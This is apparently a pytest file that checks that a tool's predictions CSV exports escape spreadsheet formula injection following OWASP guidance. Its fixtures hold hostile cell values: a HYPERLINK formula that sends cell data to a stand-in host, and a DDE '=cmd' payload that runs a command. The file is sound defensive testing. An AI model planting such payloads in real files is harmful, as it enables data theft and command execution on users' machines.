"""Issue 11, finding 4: predictions CSVs never carry a live spreadsheet formula.

Text cells and headers that begin with = + - @ tab or CR get a leading quote
(OWASP); numbers stay numbers. Hostile class labels come from the training
data, so they reach the bundle, every prediction cell and the probability headers.
"""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from core.cli import main
from core.export.predictions import escape_cell, spreadsheet_safe_frame

EVIL_LABELS = ['=HYPERLINK("http://x.example/?"&A2)', "@SUM(1+1)"]
EVIL_TEXT = ["=cmd|' /C calc'!A0", "+1+2", "-2+3", "\tTAB", "\rCR", "plain"]


def test_escape_cell_follows_owasp_and_leaves_numbers() -> None:
    assert escape_cell("=1+1") == "'=1+1"
    assert escape_cell("@SUM(1)") == "'@SUM(1)"
    assert escape_cell("\t=x") == "'\t=x"
    assert escape_cell("-2+3") == "'-2+3"
    assert escape_cell("-1.5") == "-1.5" and escape_cell("+3e5") == "+3e5"
    assert escape_cell("ok") == "ok" and escape_cell(-4.0) == -4.0 and escape_cell(None) is None


def test_spreadsheet_safe_frame_escapes_text_and_headers_not_numbers() -> None:
    df = pd.DataFrame({"=h": ["=a", "b"], "n": [-1.0, 2.0], "c": pd.Categorical(["@x", "y"])})
    safe = spreadsheet_safe_frame(df)
    assert list(safe.columns) == ["'=h", "n", "c"]
    assert safe["'=h"].tolist() == ["'=a", "b"] and safe["c"].tolist() == ["'@x", "y"]
    assert safe["n"].tolist() == [-1.0, 2.0] and safe["n"].dtype == np.float64
    assert df["=h"].tolist() == ["=a", "b"]  # the caller's frame is untouched


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):
                float(cell)  # only real numbers may start with a minus


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    tmp = tmp_path_factory.mktemp("evil")
    rng = np.random.default_rng(3)
    n = 60
    x = rng.normal(size=n)
    df = pd.DataFrame(
        {
            "x": x,
            "note": [EVIL_TEXT[i % len(EVIL_TEXT)] for i in range(n)],
            "label": [EVIL_LABELS[int(v > 0)] for v in x],
        }
    )
    data = tmp / "evil.csv"
    df.to_csv(data, index=False, quoting=csv.QUOTE_NONNUMERIC)
    proj = tmp / "evil.lfproj"
    assert (
        main(["new", "--data", str(data), "--target", "label", "--hidden", "4", "--out", str(proj)])
        == 0
    )
    assert main(["train", str(proj), "--epochs", "2", "--quiet"]) == 0
    return proj.with_suffix(".lfmodel"), data


def test_predict_out_escapes_hostile_cells_and_labels(hostile, tmp_path: Path, capsys) -> None:
    model, data = hostile
    out = tmp_path / "pred.csv"
    assert main(["predict", str(model), "--data", str(data), "--out", str(out)]) == 0
    rows = _cells(out)
    _no_live_formula(rows)
    header = rows[0]
    assert "prediction" in header
    labels = {r[header.index("prediction")] for r in rows[1:]}
    assert labels <= {"'" + v for v in EVIL_LABELS} and labels
    assert any(r[header.index("note")] == "'=cmd|' /C calc'!A0" for r in rows[1:])
    probs = [c for c in header if c.startswith("probability_")]
    assert len(probs) == 2
    assert all(0.0 <= float(r[header.index(probs[0])]) <= 1.0 for r in rows[1:])
    capsys.readouterr()
    assert main(["predict", str(model), "--data", str(data)]) == 0  # to stdout
    _no_live_formula(list(csv.reader(capsys.readouterr().out.splitlines())))


def test_predictions_export_escapes_and_still_verifies(hostile, tmp_path: Path, capsys) -> None:
    model, data = hostile
    out = tmp_path / "exported.csv"
    code = main(
        ["export", str(model), "--format", "predictions", "--data", str(data), "--out", str(out)]
    )
    assert code == 0, capsys.readouterr().err
    rows = _cells(out)
    _no_live_formula(rows)
    assert float(rows[1][0]) == pytest.approx(pd.read_csv(data)["x"].iloc[0])
